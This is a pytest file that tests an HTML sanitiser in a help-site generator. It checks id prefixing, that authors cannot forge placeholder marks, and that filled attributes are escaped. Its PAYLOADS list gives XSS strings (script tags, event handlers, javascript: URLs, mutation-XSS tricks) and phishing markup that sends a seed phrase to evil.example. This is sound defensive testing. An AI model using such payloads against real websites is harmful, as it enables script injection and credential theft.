"""The gate holds alone, keeps what the parser makes, and its marks cannot be forged."""

from __future__ import annotations

from pathlib import Path

import pytest
from pygments.token import STANDARD_TYPES

from helpgen.content import sanitise
from helpgen.content.markdown import body as body_module
from helpgen.content.markdown import parse_body
from helpgen.content.sanitise import CODE_CLASSES, cut, fill, hole, html_gate
from helpgen.model.article import Body, Reference
from helpgen.model.config import Limits
from helpgen.model.location import Location

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a><animate attributeName=href values=javascript:alert(1) /></a></svg>",
    "<style onload='alert(1)'>*{display:none}</style>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='data:text/html,x'>x</a>",
    "<form action=https://evil.example><input name=seed placeholder=phrase><button>Go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href=https://evil.example>",
    "<div style='position:fixed;inset:0' class='site-header' data-search-url=//evil.example>x</div>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
    "<input type=text autofocus onfocus=alert(1)><video><source onerror=alert(1)></video>",
    "<dialog open>phish</dialog><div popover id=p>x</div><button popovertarget=p>x</button>",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_gate_holds_alone(payload: str) -> None:
    out = html_gate(payload).lower()
    for danger in ("<script", "<svg", "<style", "<iframe", "<form", "<button", "<meta", "<base", "<dialog", "<video"):
        assert danger not in out
    for attribute in (
        " on",
        "javascript:",
        "data:",
        " style=",
        " name=",
        "site-header",
        "data-search",
        "popover",
        '"text"',
    ):
        assert attribute not in out.replace("=&quot;", "")


def test_ids_get_a_prefix_and_cannot_name_what_scripts_use() -> None:
    assert html_gate('<h2 id="cookie">x</h2>') == '<h2 id="h-cookie">x</h2>'
    assert html_gate('<h2 id="\ufdd2ref-1">x</h2>') == '<h2 id="fn-ref-1">x</h2>'
    assert html_gate('<p id="x">x</p>') == "<p>x</p>"


def test_code_classes_are_those_of_pygments() -> None:
    assert {name for name in STANDARD_TYPES.values() if name} <= CODE_CLASSES


def test_marks_cannot_be_written_by_an_author() -> None:
    forged = (
        "\ufdd00\ufdd1 &#xFDD0;0&#xFDD1; `\ufdd00\ufdd1` [a](<\ufdd00\ufdd1>) <abbr title='&#xfdd0;0&#xfdd1;'>x</abbr>"
    )
    body = parse_body(forged, path="a.md", first_line=1, kind="article", limits=Limits()).value
    assert body is not None
    assert [piece for piece in body.pieces if isinstance(piece, int)] == [0]
    assert not any("\ufdd0" <= char <= "\ufdef" for piece in body.pieces if isinstance(piece, str) for char in piece)


def _body(html: str, *kinds: str) -> Body:
    place = Location(path="a.md")
    references = tuple(Reference(kind=kind, target="x", location=place) for kind in kinds)  # type: ignore[arg-type]
    return Body(pieces=cut(html), references=references)


def test_fill_escapes_addresses() -> None:
    body = _body(f'<a href="{hole(0)}">x</a>', "link")
    assert fill(body, ['../a/?b=1&c="#h']).text == '<a href="../a/?b=1&amp;c=&quot;#h">x</a>'


def test_the_words_of_a_missing_image_take_its_place() -> None:
    figure = f'<p><a class="zoom" href="{hole(0)}"><img alt="a &quot;b&quot; &lt;i&gt;" src="{hole(0)}"></a></p>'
    inline = f'<p>see <img alt="" src="{hole(1)}"> and <a href="{hole(2)}"><img alt="c" src="{hole(1)}"></a></p>'
    html = fill(_body(figure + inline, "image", "image", "link"), ["", "", "/d/"]).text
    assert html == (
        '<p><span class="image-missing">a "b" &lt;i&gt;</span></p>'
        '<p>see  and <a href="/d/"><span class="image-missing">c</span></a></p>'
    )


def test_fill_puts_the_attributes_of_images() -> None:
    body = _body(f'<a href="{hole(0)}"><img alt="a" src="{hole(0)}"></a>', "image")
    filled = fill(body, [' src="m/a.1.png" width="4" height="3"']).text
    assert filled == '<a href="m/a.1.png"><img alt="a" src="m/a.1.png" width="4" height="3"></a>'
    for wrong in (' src="x" onerror="alert(1)"', ' src="a"b"', "x.png"):
        with pytest.raises(ValueError, match="attributes"):
            fill(body, [wrong])


def test_the_first_layer_is_already_what_the_gate_lets_through(monkeypatch: pytest.MonkeyPatch) -> None:
    """Nothing that the parser writes is changed by the gate, but for the prefixes of ids."""
    seen: list[str] = []

    def spy(html: str) -> str:
        seen.append(html)
        return sanitise.html_gate(html)

    monkeypatch.setattr(body_module, "html_gate", spy)
    for case in sorted((Path(__file__).parent / "markdown" / "cases").glob("*.md")):
        parse_body(case.read_text("utf-8"), path=case.name, first_line=1, kind="article", limits=Limits())
        written = seen.pop()
        expected = written.replace(' id="\ufdd2', ' id="fn-')
        for level in range(2, 7):
            expected = expected.replace(f'<h{level} id="', f'<h{level} id="h-')
        assert _text(sanitise.html_gate(written)) == _text(expected), case.name


def _text(html: str) -> str:
    return html.replace("&quot;", '"').replace("&#x27;", "'")
